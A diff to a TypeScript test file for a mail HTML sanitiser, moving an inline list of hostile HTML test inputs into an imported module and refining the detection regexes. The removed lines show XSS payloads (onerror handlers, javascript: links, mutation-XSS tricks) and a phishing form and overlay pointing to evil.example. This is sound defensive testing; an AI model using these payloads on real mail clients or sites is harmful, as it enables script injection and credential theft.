@@ -1,49 +1,26 @@
 import fc from 'fast-check'
 import { describe, expect, test } from 'vitest'
+import { HOSTILE_HTML, OVERLONG_HTML } from './hostile-html.ts'
 import { htmlToText } from './html-text.ts'
 import { measureHtml, sanitiseMailHtml, withImages } from './html-policy.ts'
 
 /** Processor time of this process: a busy machine does not make it longer. */
 const cpuMs = (): number => process.cpuUsage().user / 1000
 
-const forbidden =
-  /<(?:script|form|input|button|svg|math|style|meta|base|iframe|object|embed|link)\b|\son\w+=|javascript:|data:(?!image\/png)|position\s*:|url\(|expression\(/i
+const ELEMENTS = /<(?:script|form|input|button|svg|math|style|meta|base|iframe|object|embed|link)\b|\son\w+=/i
+const VALUES = /javascript:|data:(?!image\/png)|position\s*:|url\(|expression\(/i
+
+/** What stands between quotes is the value of an attribute, and no element and no event. */
+function expectHarmless(safe: string): void {
+  expect(safe.replace(/"[^"]*"/g, '""')).not.toMatch(ELEMENTS)
+  expect(safe).not.toMatch(VALUES)
+}
 
 describe('hostile HTML', () => {
-  test.each([
-    ['phishing form', '<form action="https://evil.example"><input name=p><button>Sign in</button></form>'],
-    ['overlay', '<div style="position:fixed;top:0;left:0;z-index:9;background:url(https://evil.example/a)">x</div>'],
-    ['style element', '<style>@import "https://evil.example"; body{display:none}</style>text'],
-    [
-      'namespace confusion',
-      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-    ],
-    ['svg', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><script>alert(1)</script></svg>'],
-    [
-      'svg foreign object',
-      '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
-    ],
-    [
-      'script link',
-      '<a href="java&#10;script:alert(1)">x</a><a href=" javascript:alert(1)">y</a><a href="data:text/html,x">z</a>',
-    ],
-    ['event', '<img src=x onerror=alert(1)><b onmouseover="alert(1)">x</b>'],
-    [
-      'meta and base',
-      '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example/">',
-    ],
-    [
-      'template and noscript',
-      '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><script>x</script></template>',
-    ],
-    ['unclosed', '<div><script>alert(1)'],
-    ['textarea trick', '<textarea></title><img src=x onerror=alert(1)></textarea>'],
-    ['broken comment', '<!--><img src=x onerror=alert(1)>-->'],
-    ['css escape', '<p style="c\\6flor:red;background-image:u\\72l(x);color:expression(alert(1))">x</p>'],
-  ])('trust-D50 %s has no effect', (_name, html) => {
+  test.each(HOSTILE_HTML)('trust-D50 %s has no effect', (_name, html) => {
     const safe = sanitiseMailHtml(html)
-    expect(safe).not.toMatch(forbidden)
-    expect(sanitiseMailHtml(safe)).not.toMatch(forbidden)
+    expectHarmless(safe)
+    expectHarmless(sanitiseMailHtml(safe))
   })
   test('trust-D50 no image is loaded before a click, and cid pictures are put in as data', () => {
     const safe = sanitiseMailHtml(
@@ -66,6 +43,9 @@ describe('hostile HTML', () => {
 })
 
 describe('limits', () => {
+  test.each(OVERLONG_HTML)('trust-D50 %s is shown as text', (_, html) => {
+    expect(measureHtml(html).ok).toBe(false)
+  })
   test.each([
     ['too_large', 'a'.repeat(1_100_000)],
     ['too_deep', '<div>'.repeat(10_000)],
